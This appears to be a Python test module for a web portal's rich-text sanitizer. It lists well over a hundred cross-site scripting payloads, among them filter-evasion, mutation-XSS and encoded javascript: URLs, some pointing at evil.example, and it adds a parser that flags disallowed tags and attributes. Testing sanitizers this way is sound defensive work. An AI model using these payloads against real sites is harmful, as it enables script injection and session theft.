"""Attacks on rich text, and the question whether anything in a piece of HTML could run."""

from html.parser import HTMLParser

from klimaportal.core.richtext import ATTRIBUTES, SCHEMES, TAGS

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr<![CDATA[ipt>alert(1)</scr]]>ipt>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script\x0c>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "</p><script>alert(1)</script><p>",
    "<p onclick=alert(1)>x</p>",
    '<p ONMOUSEOVER="alert(1)">x</p>',
    "<p/onclick=alert(1)>x</p>",
    "<a href='#' onfocus=alert(1) autofocus>x</a>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="javascript://%0aalert(1)">x</a>',
    '<a href="jav\x00ascript:alert(1)">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:image/svg+xml,<svg onload=alert(1)>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="blob:https://example.org/x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<a href="/" ping="//evil.example" target="_blank" download>x</a>',
    '<q cite="javascript:alert(1)">x</q>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src=x srcset="x 1x" onload=alert(1)>',
    "<image src=x onerror=alert(1)>",
    "<p style=\"background:url('javascript:alert(1)')\">x</p>",
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="behavior:url(x.htc);-moz-binding:url(x.xml#a)">x</p>',
    '<p style="position:fixed;inset:0;z-index:9999">overlay</p>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    '<link rel="stylesheet" href="javascript:alert(1)">',
    "<style><img title='</style><img src=x onerror=alert(1)>'></style>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<? <script>alert(1)</script> ?>",
    "<!DOCTYPE html><html onload=alert(1)><body onload=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="Set-Cookie" content="a=b">',
    '<base href="//evil.example/">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<form action="//evil.example"><input name=password type=password autofocus onfocus=alert(1)></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<isindex type=image src=1 onerror=alert(1) action="javascript:alert(1)">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<frameset onload=alert(1)><frame src=x></frameset>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code="x.class"></applet>',
    "<video src=x onerror=alert(1)></video>",
    "<audio><source onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    '<portal src="javascript:alert(1)"></portal>',
    "<dialog open onclose=alert(1)>x</dialog>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<slot onslotchange=alert(1)></slot>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<table background=javascript:alert(1)><td background=x onclick=alert(1)>x</table>",
    "<p title='`onclick=alert(1)'>x</p>",
    '<abbr title="`><img src=x onerror=alert(1)>">x</abbr>',
    '<abbr title="\'&quot;><script>alert(1)</script>">x</abbr>',
    "<b><script>alert(1)</b></script>",
    "<i onclick=alert(1)>x</i>",
    "<ol start='1 onclick=alert(1)'><li>x</ol>",
    '<th scope="row" headers=x onclick=alert(1)>x</th>',
    '<p id="location" name="cookie" class="modal">clobber</p>',
    "<x-element onclick=alert(1)>x</x-element>",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<p\u2028onclick=alert(1)>x</p>",
    "<\u0000p onclick=alert(1)>x</p>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<table><a href='javascript:alert(1)'><tr><td>x</a></table>",
    "<p><div><p onclick=alert(1)><svg><p></svg></div>",
]


HARMLESS = {"lang", "title"}  # nh3 allows them on every tag


class _Reader(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, set()) | HARMLESS | ({"rel"} if tag == "a" else set()):
                self.found.append(f"{tag}[{name}]")
            address = "".join(c for c in value or "" if ord(c) > 32).lower()
            scheme = address.partition(":")[0] if ":" in address.partition("/")[0] else ""
            if name == "href" and scheme and scheme not in SCHEMES:
                self.found.append(f"{tag}[{name}={scheme}:]")

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.found.append("<!-- -->")

    def handle_decl(self, decl):
        self.found.append("<!>")

    unknown_decl = handle_pi = handle_decl


def executable_parts(html: str) -> list[str]:
    """Tags, attributes and addresses in ``html`` that are not on the allow-list, as a browser's parser sees them."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.found
